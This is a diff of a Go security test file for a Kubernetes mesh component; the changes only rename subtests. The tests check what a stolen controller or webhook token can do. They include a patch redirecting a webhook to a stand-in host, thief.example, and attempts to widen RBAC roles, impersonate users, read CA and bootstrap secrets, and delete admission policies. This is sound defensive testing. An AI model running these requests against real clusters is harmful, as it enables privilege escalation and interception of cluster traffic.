@@ -38,7 +38,7 @@ func TestStolenControllerToken(t *testing.T) {
 	require.NoError(t, err)
 	toPod := &authenticationv1.BoundObjectReference{Kind: "Pod", APIVersion: "v1", Name: pod.Name, UID: pod.UID}
 
-	t.Run("it gets what the CA takes, for every account of an opted-in namespace", func(t *testing.T) {
+	t.Run("it gets tokens for the CA, for every account of an opted-in namespace", func(t *testing.T) {
 		for _, account := range []string{"edge", "other"} {
 			assert.NoError(t, createToken(ns, account, nil, "istio-ca")(t.Context(), controller))
 		}
@@ -49,7 +49,7 @@ func TestStolenControllerToken(t *testing.T) {
 	// RBAC grants the patch of an object, not of a field, and the API server calls no
 	// admission policy for webhook configurations: docs/security.md explains the
 	// consequences.
-	t.Run("it has the webhook sent what it likes, where the certificate is self-managed", func(t *testing.T) {
+	t.Run("it redirects and extends the webhook configuration, where the certificate is self-managed", func(t *testing.T) {
 		patch := `[{"op":"replace","path":"/webhooks/0/rules/0/resources","value":["*"]},{"op":"replace","path":"/webhooks/0/clientConfig","value":{"url":"https://thief.example"}}]`
 		_, err := controller.AdmissionregistrationV1().MutatingWebhookConfigurations().Patch(t.Context(), "isthmus-injector", types.JSONPatchType, []byte(patch), metav1.PatchOptions{DryRun: dryRun})
 		assert.NoError(t, err)
@@ -59,14 +59,14 @@ func TestStolenControllerToken(t *testing.T) {
 		"a token for the default, bound to a pod":    createToken(ns, "edge", toPod),
 		"a token of the controller itself":           createToken(environment.Namespace, "isthmus-controller", nil),
 		"a token of the controller for the CA":       createToken(environment.Namespace, "isthmus-controller", nil, "istio-ca"),
-		"a token elsewhere":                          createToken("default", "target", nil, "istio-ca"),
+		"a token in another namespace":               createToken("default", "target", nil, "istio-ca"),
 		"list Secrets":                               listSecrets(ns),
 		"list Secrets of all":                        listSecrets(""),
 		"read the mesh's CA":                         readSecret("istio-system", "istio-ca-secret"),
 		"read the roots of the cluster":              readSecret("kube-system", "bootstrap-token"),
 		"create a pod":                               createPod(ns),
 		"create a pod beside itself":                 createPod(environment.Namespace),
-		"look into a pod": func(ctx context.Context, k *kubernetes.Clientset) error {
+		"exec into a pod": func(ctx context.Context, k *kubernetes.Clientset) error {
 			return k.CoreV1().RESTClient().Post().Namespace(ns).Resource("pods").Name("front").SubResource("exec").
 				Param("command", "cat").Param("container", "ambassador").Do(ctx).Error()
 		},
@@ -82,12 +82,12 @@ func TestStolenControllerToken(t *testing.T) {
 			}, metav1.CreateOptions{DryRun: dryRun})
 			return err
 		},
-		"widen its own role": func(ctx context.Context, k *kubernetes.Clientset) error {
+		"extend its own role": func(ctx context.Context, k *kubernetes.Clientset) error {
 			_, err := k.RbacV1().ClusterRoles().Patch(ctx, "isthmus-controller", types.JSONPatchType,
 				[]byte(`[{"op":"add","path":"/rules/-","value":{"apiGroups":["*"],"resources":["*"],"verbs":["*"]}}]`), metav1.PatchOptions{DryRun: dryRun})
 			return err
 		},
-		"act as someone else": func(ctx context.Context, _ *kubernetes.Clientset) error {
+		"impersonate another user": func(ctx context.Context, _ *kubernetes.Clientset) error {
 			token, err := env.CreateToken(ctx, environment.Namespace, "isthmus-controller")
 			if err != nil {
 				return err
@@ -100,19 +100,19 @@ func TestStolenControllerToken(t *testing.T) {
 			}
 			return listSecrets("")(ctx, k)
 		},
-		"patch another webhook's configuration": func(ctx context.Context, k *kubernetes.Clientset) error {
+		"patch another webhook configuration": func(ctx context.Context, k *kubernetes.Clientset) error {
 			_, err := k.AdmissionregistrationV1().MutatingWebhookConfigurations().Patch(ctx, "istio-sidecar-injector", types.MergePatchType, []byte(`{}`), metav1.PatchOptions{DryRun: dryRun})
 			return err
 		},
-		"make a webhook's configuration": func(ctx context.Context, k *kubernetes.Clientset) error {
+		"create a webhook configuration": func(ctx context.Context, k *kubernetes.Clientset) error {
 			_, err := k.AdmissionregistrationV1().MutatingWebhookConfigurations().Create(ctx,
 				&admissionregistrationv1.MutatingWebhookConfiguration{ObjectMeta: metav1.ObjectMeta{Name: "mine"}}, metav1.CreateOptions{DryRun: dryRun})
 			return err
 		},
-		"take the webhook's configuration away": func(ctx context.Context, k *kubernetes.Clientset) error {
+		"delete the webhook configuration": func(ctx context.Context, k *kubernetes.Clientset) error {
 			return k.AdmissionregistrationV1().MutatingWebhookConfigurations().Delete(ctx, "isthmus-injector", metav1.DeleteOptions{DryRun: dryRun})
 		},
-		"take the policy away": func(ctx context.Context, k *kubernetes.Clientset) error {
+		"delete the policy": func(ctx context.Context, k *kubernetes.Clientset) error {
 			return k.AdmissionregistrationV1().ValidatingAdmissionPolicies().Delete(ctx, "isthmus-controller-tokens", metav1.DeleteOptions{DryRun: dryRun})
 		},
 		"weaken the policy": func(ctx context.Context, k *kubernetes.Clientset) error {
@@ -122,7 +122,7 @@ func TestStolenControllerToken(t *testing.T) {
 		"unbind the policy": func(ctx context.Context, k *kubernetes.Clientset) error {
 			return k.AdmissionregistrationV1().ValidatingAdmissionPolicyBindings().Delete(ctx, "isthmus-controller-tokens", metav1.DeleteOptions{DryRun: dryRun})
 		},
-		"have the policy warn only": func(ctx context.Context, k *kubernetes.Clientset) error {
+		"make the policy warn only": func(ctx context.Context, k *kubernetes.Clientset) error {
 			_, err := k.AdmissionregistrationV1().ValidatingAdmissionPolicyBindings().Patch(ctx, "isthmus-controller-tokens", types.MergePatchType, []byte(`{"spec":{"validationActions":["Warn"]}}`), metav1.PatchOptions{DryRun: dryRun})
 			return err
 		},
@@ -136,13 +136,13 @@ func TestStolenWebhookToken(t *testing.T) {
 	env.CreateEdge(t, ns, "front", "edge")
 	awaitSecret(t, ns)
 	webhook := stolenClient(t, environment.Namespace, "isthmus-webhook")
-	t.Run("it reads the CA of its own certificate, with which it can be the webhook and nobody else", func(t *testing.T) {
+	t.Run("it reads the CA of its own certificate, with which it can impersonate the webhook only", func(t *testing.T) {
 		assert.NoError(t, readSecret(environment.Namespace, "isthmus-webhook-ca")(t.Context(), webhook))
 	})
-	for _, where := range []string{ns, environment.Namespace, "istio-system", "kube-system"} {
-		for _, rule := range permissions(t, webhook, where) {
+	for _, namespace := range []string{ns, environment.Namespace, "istio-system", "kube-system"} {
+		for _, rule := range permissions(t, webhook, namespace) {
 			for verb := range strings.SplitSeq(strings.Fields(rule)[0], ",") {
-				assert.Contains(t, []string{"get", "list", "watch"}, verb, "%s in %s", rule, where)
+				assert.Contains(t, []string{"get", "list", "watch"}, verb, "%s in %s", rule, namespace)
 			}
 		}
 	}
@@ -158,7 +158,7 @@ func TestStolenWebhookToken(t *testing.T) {
 			_, err := k.CoreV1().Secrets(environment.Namespace).Patch(ctx, "isthmus-webhook-ca", types.MergePatchType, []byte(`{"data":{}}`), metav1.PatchOptions{DryRun: dryRun})
 			return err
 		},
-		"send pods elsewhere": func(ctx context.Context, k *kubernetes.Clientset) error {
+		"patch the webhook configuration": func(ctx context.Context, k *kubernetes.Clientset) error {
 			_, err := k.AdmissionregistrationV1().MutatingWebhookConfigurations().Patch(ctx, "isthmus-injector", types.MergePatchType, []byte(`{}`), metav1.PatchOptions{DryRun: dryRun})
 			return err
 		},
